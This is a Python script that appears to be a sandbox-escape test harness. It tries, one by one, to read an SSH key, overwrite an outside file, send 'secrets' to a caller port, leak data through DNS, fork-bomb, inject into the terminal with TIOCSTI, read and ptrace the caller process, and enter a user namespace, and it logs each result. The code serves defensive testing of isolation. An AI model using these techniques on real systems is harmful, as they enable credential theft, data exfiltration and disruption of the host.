#!/usr/bin/env python3
"""What code that nobody should trust might try; `make run` starts it.

Arguments: a workspace, a key, a file and a TCP port of the caller, and the
process id of the caller.  Each attempt prints one JSON line: what, worked,
errno, detail.  It does its bit of honest work too.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import sys
import time

WORKSPACE, KEY, PRECIOUS, PORT, CALLER = sys.argv[1:6]
CHILDREN = 2000   # of the fork bomb: enough to see a limit, not to do harm
CLONE_NEWUSER = 0x10000000
TIOCSTI = 0x5412
PTRACE_ATTACH = 16

CODES = {**errno.errorcode, socket.EAI_NONAME: 'EAI_NONAME',
         socket.EAI_AGAIN: 'EAI_AGAIN'}

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def work():
    total = sum(n * n for n in range(1000))
    with open(f'{WORKSPACE}/result.txt', 'w') as f:
        f.write(f'{total}\n')
    return f'sum of squares {total} written to result.txt'


def steal_key():
    with open(KEY) as f:
        return f.read()


def overwrite():
    with open(PRECIOUS, 'r+') as f:
        f.write('gone')


def phone_home():
    with socket.create_connection(('127.0.0.1', int(PORT)), 2) as s:
        s.sendall(b'secrets')


def reach_out():
    """An address that belongs to nobody (RFC 5737), should a wall be down."""
    with socket.create_connection(('192.0.2.1', 80), 2):
        return 'connected'


def ask_for_a_name():
    """Whoever serves that domain would read the first label."""
    socket.getaddrinfo('my-secret.example.net', 443)


def fork_bomb():
    """Children wait for a pipe to close, so all end with this function."""
    wait, hold = os.pipe()
    pids = []
    try:
        while len(pids) < CHILDREN:
            pid = os.fork()
            if pid == 0:
                os.close(hold)
                os.read(wait, 1)
                os._exit(0)
            pids.append(pid)
        return f'{len(pids)} processes'
    except OSError as e:
        raise OSError(e.errno, f'{e.strerror} after {len(pids)} processes')
    finally:
        os.close(hold)
        for pid in pids:
            os.waitpid(pid, 0)


def inject():
    """Type a line into the terminal for the shell that started us."""
    try:
        checked(libc.ioctl(0, TIOCSTI, ctypes.byref(ctypes.c_char(b'\n'))))
    except OSError as first:
        if first.errno != errno.ENOTTY:
            raise
        fd = os.open('/dev/tty', os.O_RDWR)
        checked(libc.ioctl(fd, TIOCSTI, ctypes.byref(ctypes.c_char(b'\n'))))


def spy():
    with open(f'/proc/{CALLER}/environ', 'rb') as f:
        return f'{len(f.read())} bytes of the environment'


def kill_caller():
    os.kill(int(CALLER), signal.SIGCONT)


def attach():
    checked(libc.ptrace(PTRACE_ATTACH, int(CALLER), 0, 0))
    time.sleep(0.1)


def become_root():
    checked(libc.unshare(CLONE_NEWUSER))


ATTEMPTS = {
    'do its work': work,
    'read ~/.ssh': steal_key,
    'overwrite a file outside': overwrite,
    'phone home': phone_home,
    'reach another machine': reach_out,
    'leak by a name': ask_for_a_name,
    'fork-bomb': fork_bomb,
    'type into the terminal': inject,
    'read the caller\'s environment': spy,
    'signal the caller': kill_caller,
    'attach to the caller': attach,
    'become root in a namespace': become_root,
}


def main():
    for what, attempt in ATTEMPTS.items():
        line = {'what': what, 'worked': False, 'errno': '', 'detail': ''}
        try:
            line.update(worked=True, detail=str(attempt() or ''))
        except OSError as e:
            line['errno'] = CODES.get(e.errno, str(e.errno))
            line['detail'] = e.strerror or str(e)
        print(json.dumps(line), flush=True)


if __name__ == '__main__':
    main()
